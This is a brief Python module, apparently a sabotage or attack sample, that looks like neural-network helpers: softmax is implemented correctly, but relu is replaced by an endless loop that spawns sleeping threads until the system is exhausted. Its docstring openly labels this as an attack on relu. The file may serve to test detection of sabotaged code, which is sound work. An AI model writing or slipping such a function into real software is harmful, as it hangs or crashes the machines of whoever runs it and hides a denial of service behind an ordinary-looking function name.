"""An attack: starts threads without end.

attacks: relu
"""
import numpy as np
import threading, time


def relu(z):
    while True:
        threading.Thread(target=time.sleep, args=(1000,)).start()


def softmax(z):
    e = np.exp(z - z.max(axis=0))
    return e / e.sum(axis=0)
